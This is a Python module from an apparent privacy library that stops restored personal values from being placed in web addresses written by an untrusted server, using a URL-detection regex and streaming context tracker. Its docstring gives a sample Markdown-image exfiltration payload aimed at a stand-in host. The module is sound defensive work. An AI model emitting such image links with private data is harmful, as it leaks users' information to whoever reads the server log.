"""Keep restored values out of web addresses that a server wrote.

The server is not trusted. It could answer `![](https://its.own.host/?q=PERSON_[...])`: a client
that shows images would fetch the address, and with the name restored in it the server would read
in its log what it could not decrypt.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Collection

from sage_rag.privacy.tokens import LOOSE, StreamReplacer

_ADDRESS = re.compile(
    r"https?\\?:|[/\\]{2}|www\.|url\(|\\0{0,4}2f|\\u00[2-7]|&(?:#|sol|bsol|colon|tab|newline)",
    re.IGNORECASE,
)
"""What makes a browser leave this page: a scheme, two slashes of either kind, `www.`, or escapes of
Markdown, HTML, CSS or JSON that spell one of them."""
_FOUND = "//"
_LONGEST_CUT = 8
"""No spelling that `_ADDRESS` finds needs more characters before a cut."""
_IGNORED = dict.fromkeys(map(ord, "\t\n\r"))
"""Browsers drop these from an address."""
_SPACES = " \t\n\r\f"
"""Only these end an address in Markdown (CommonMark 0.31, §6.3), or one without quotes in HTML."""
_MARKS = re.compile(rf"[{_SPACES}<>\\\"'=]")

Replace = Callable[[re.Match[str]], str]


class Surroundings:
    """What the end of a text is in the middle of, read piece by piece, in bounded space.

    Of a word; of a Markdown `<...>`, which an escaped bracket does not end; and of a quoted
    attribute, by its quotation marks alone: where a tag begins and ends, parsers disagree. In JSON
    source a quotation mark ends them all.
    """

    def __init__(self, *, in_json: bool = False) -> None:
        self._in_json = in_json
        self._open = {"word": ""}
        self._escaped = self._assigned = False

    @property
    def in_address(self) -> bool:
        """Whether text that continues would belong to a web address."""
        return _FOUND in self._open.values()

    def read(self, text: str) -> None:
        """Take the next piece, however the text is cut."""
        begun = dict.fromkeys(self._open, 0)
        escaped, assigned = (0 if flag else -1 for flag in (self._escaped, self._assigned))
        for match in _MARKS.finditer(text):
            mark, at = match.group(), match.start()
            if mark == "=" or (at == assigned and mark in f"{_SPACES}\\"):
                assigned = at + 1
            if mark == "\\":
                escaped = at + 1 if at != escaped else -1
            elif mark in _SPACES:
                self._begin("word", at + 1, begun)
            elif mark == '"' and self._in_json and at != escaped:
                self._open.clear()
                begun.clear()
                self._begin("word", at + 1, begun)
            elif mark in "\"'":
                self._end(mark, begun)
                if at == assigned:
                    self._begin(mark, at + 1, begun)
            elif mark in "<>" and at != escaped:
                self._end("<", begun)
                if mark == "<":
                    self._begin("<", at + 1, begun)
        self._escaped, self._assigned = escaped == len(text), assigned == len(text)
        self._open = {name: _short(self._open[name] + text[at:]) for name, at in begun.items()}

    def _begin(self, name: str, at: int, begun: dict[str, int]) -> None:
        self._open[name], begun[name] = "", at

    def _end(self, name: str, begun: dict[str, int]) -> None:
        self._open.pop(name, None)
        begun.pop(name, None)


def _short(text: str) -> str:
    """Return what is to be remembered of a text: that it holds an address, or how it ends."""
    text = text.translate(_IGNORED)
    return _FOUND if _ADDRESS.search(text) else text[-_LONGEST_CUT:]


def replace_outside_addresses(text: str, replace: Replace, *, in_json: bool = False) -> str:
    """Replace every token of a text, but leave those in web addresses as they are.

    With `in_json` the text is JSON source, in which a quotation mark ends an address.
    """
    stream = GuardedStream(replace, in_json=in_json)
    return stream.feed(text) + stream.flush()


class GuardedStream:
    """The same for text that arrives in pieces, however it is cut.

    What counts is the text that is given out: an address may itself be the value of a token.
    """

    def __init__(
        self, replace: Replace, *, in_json: bool = False, beside: Collection[GuardedStream] = ()
    ) -> None:
        """`beside`: texts that a reader may take for the beginning of this one."""
        self._replace = replace
        self._beside = beside
        self._around = Surroundings(in_json=in_json)
        self._guarded = StreamReplacer(LOOSE, self._value)
        self._taken = self._given = 0

    @property
    def in_address(self) -> bool:
        """Whether what was given out so far ends in a web address."""
        return self._around.in_address

    def feed(self, piece: str) -> str:
        """Take the next piece; return what is certain by now."""
        return self._read(self._guarded.feed(piece))

    def flush(self) -> str:
        """Return what was held back: the text has ended, or pauses."""
        return self._read(self._guarded.flush())

    def _read(self, given: str) -> str:
        """Read what follows the last token."""
        if rest := given[self._given :]:
            self._around.read(rest)
        self._taken = self._given = 0
        return given

    def _value(self, match: re.Match[str]) -> str:
        between = match.string[self._taken : match.start()]
        self._around.read(between)
        kept = self.in_address or any(text.in_address for text in self._beside)
        value = match.group() if kept else self._replace(match)
        self._around.read(value)
        self._taken = match.end()
        self._given += len(between) + len(value)
        return value
